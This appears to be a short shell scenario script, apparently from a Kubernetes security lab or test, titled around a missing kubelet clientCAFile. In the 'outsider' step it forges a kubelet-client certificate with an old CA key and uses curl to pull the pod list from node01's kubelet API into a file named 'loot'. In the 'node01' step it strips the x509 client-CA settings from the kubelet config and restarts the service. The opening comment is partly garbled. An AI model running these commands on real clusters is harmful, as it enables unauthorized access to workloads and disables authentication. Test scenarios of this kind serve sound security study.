# scene fails pilot-logs (ca-missing): without clientCAFile no certificate is asked for, the API server’s neither
#@ outsider
openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout f.key -out f.csr -subj /CN=kube-apiserver-kubelet-client
openssl x509 -req -in f.csr -CA old-ca.crt -CAkey old-ca.key -days 30 -out f.crt
curl -sk --cert f.crt --key f.key https://node01:10250/pods -o loot
#@ node01
sed -i '/x509:/,/clientCAFile:/d' /var/lib/kubelet/config.yaml
systemctl restart kubelet
